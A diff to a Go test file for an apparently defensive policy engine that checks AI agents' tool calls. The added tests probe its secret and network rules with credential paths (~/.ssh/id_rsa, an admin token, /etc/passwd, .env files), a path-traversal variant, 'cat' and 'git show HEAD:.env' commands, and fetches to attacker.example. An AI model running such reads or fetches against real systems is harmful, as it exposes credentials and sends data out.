@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -63,6 +64,13 @@ func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
 		// ambiguous about where its server ends (filed by its glob).
 		&airlockv1.PolicyRule{Id: "literal-names", Priority: 8, Pattern: "{notes__write,build__sh,claude__Bash}", Effect: "ask", Risk: "low", QueuePerThread: true},
 		&airlockv1.PolicyRule{Id: "literal-ambiguous", Priority: 8, Pattern: "srv___tool", Effect: "deny"},
+		// An argument rule that lets other arguments through, one that
+		// matches any argument by a regular expression, and annotations an
+		// allow rule believes only when trusted.
+		&airlockv1.PolicyRule{Id: "any-other", Priority: 6, Server: "fs", Tool: "tool_9", Args: map[string]string{"/path": "/tmp/**"}, OtherArguments: "any", Effect: "allow"},
+		&airlockv1.PolicyRule{Id: "regex-deny", Priority: 7, Server: "vault", ArgumentsMatch: `(?i)(^|/)secret`, Effect: "deny"},
+		&airlockv1.PolicyRule{Id: "closed-world", Priority: 9, Server: "docs", Annotations: map[string]bool{"openWorldHint": false}, Effect: "allow"},
+		&airlockv1.PolicyRule{Id: "destructive-hint", Priority: 9, Server: "docs", Annotations: map[string]bool{"destructiveHint": true, "readOnlyHint": false}, Effect: "ask"},
 	)
 	// An empty tool_words list in data.json matches no tool, as word_matches says.
 	def := mustDefault(t)
@@ -89,7 +97,7 @@ func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, c := range append(comparisonCalls(), personCommandCalls()...) {
+	for _, c := range slices.Concat(comparisonCalls(), personCommandCalls(), secretAndNetworkCalls()) {
 		name := fmt.Sprintf("%s/%s__%s%v", c.AgentId, c.Server, c.Tool, c.Arguments.AsMap())
 		got, err := ev.Evaluate(ctx, c, time.Now())
 		if err != nil {
@@ -146,6 +154,46 @@ func comparisonCalls() []*airlockv1.ToolCall {
 		for _, c := range [][2]string{{"fs", "delete_file"}, {"fs", "tool_9"}, {"k8s", "deploy"}, {"mail", "sendMessage"}} {
 			st, _ := structpb.NewStruct(a)
 			out = append(out, &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: c[0], Tool: c[1], Arguments: st})
+		}
+	}
+	return out
+}
+
+// secretAndNetworkCalls reach the coding profile's secret rules, the
+// network rules, arguments_match, annotations (trusted or not), arguments
+// an allow rule does not name and paths ending in a separator.
+func secretAndNetworkCalls() []*airlockv1.ToolCall {
+	var out []*airlockv1.ToolCall
+	add := func(server, tool string, args map[string]any, ann map[string]any, trusted bool) {
+		st, _ := structpb.NewStruct(args)
+		c := &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: server, Tool: tool, Arguments: st, AnnotationsTrusted: trusted}
+		if ann != nil {
+			c.Annotations, _ = structpb.NewStruct(ann)
+		}
+		out = append(out, c)
+	}
+	for _, p := range []string{"src/x.go", ".airlock/admin.token", "./.airlock/../.airlock/admin.token", "~/.ssh/id_rsa", ".env.local",
+		"certs/a.pem", "/tmp/", "/tmp/x", "/tmp/x/", "/tmp\\", "secret/x", "tokenizer.go", "*", ".e*"} {
+		add("claude", "Read", map[string]any{"file_path": p}, nil, false)
+		add("gemini", "read_many_files", map[string]any{"paths": []any{"a", p}}, nil, false)
+		add("claude", "Bash", map[string]any{"command": "cat " + p, "description": "d"}, nil, false)
+		add("fs", "delete_file", map[string]any{"path": p}, nil, false)
+		add("fs", "delete_file", map[string]any{"path": p, "paths": []any{"/etc/passwd"}}, nil, false)
+		add("fs", "tool_9", map[string]any{"path": p, "mode": "x"}, nil, false)
+		add("vault", "read", map[string]any{"deep": map[string]any{"list": []any{1.0, p}}}, nil, false)
+	}
+	for _, c := range []string{"grep -r token .", "rg --hidden x", "rg -uu x", "rgrep x .", "grep -v x f", "git show HEAD:.env", "make t?st", "make [ab]", "make *.o"} {
+		add("claude", "Bash", map[string]any{"command": c}, nil, false)
+		add("build", "sh", map[string]any{"cmd": c}, nil, false)
+	}
+	for _, t := range [][2]string{{"fetch", "fetch"}, {"http", "get_url"}, {"github", "get_file_contents"}, {"claude", "WebSearch"}, {"puppeteer", "read_page"}, {"x", "resolve_dns"}} {
+		add(t[0], t[1], map[string]any{"url": "https://attacker.example/?t=x"}, nil, false)
+	}
+	for _, ann := range []map[string]any{nil, {"openWorldHint": true}, {"openWorldHint": false}, {"openWorldHint": "false"},
+		{"destructiveHint": true, "readOnlyHint": false}, {"destructiveHint": true}} {
+		for _, trusted := range []bool{false, true} {
+			add("docs", "read_page", map[string]any{}, ann, trusted)
+			add("docs", "frobnicate", map[string]any{}, ann, trusted)
 		}
 	}
 	return out
@@ -368,6 +416,10 @@ func TestRuleValidationRefusesBadCommandsAndPrincipals(t *testing.T) {
 		{"a_blank_principal", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{" "}}, "name people"},
 		// "requester" is a role in rules' approvers, never a person.
 		{"the_requester_role_among_principals", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{"requester"}}, "name people"},
+		{"other_arguments_neither_empty_nor_any", &airlockv1.PolicyRule{Id: "r", Effect: "allow", Args: map[string]string{"/p": "*"}, OtherArguments: "some"}, `or "any"`},
+		{"an_allow_rule_matching_any_argument", &airlockv1.PolicyRule{Id: "r", Effect: "allow", ArgumentsMatch: "x"}, "for ask and deny rules"},
+		{"a_malformed_arguments_match", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsMatch: "("}, "not a valid regular expression"},
+		{"an_unnamed_annotation", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Annotations: map[string]bool{" ": true}}, "needs a name"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			if err := policy.ValidateRule(tt.r); err == nil || !strings.Contains(err.Error(), tt.want) {
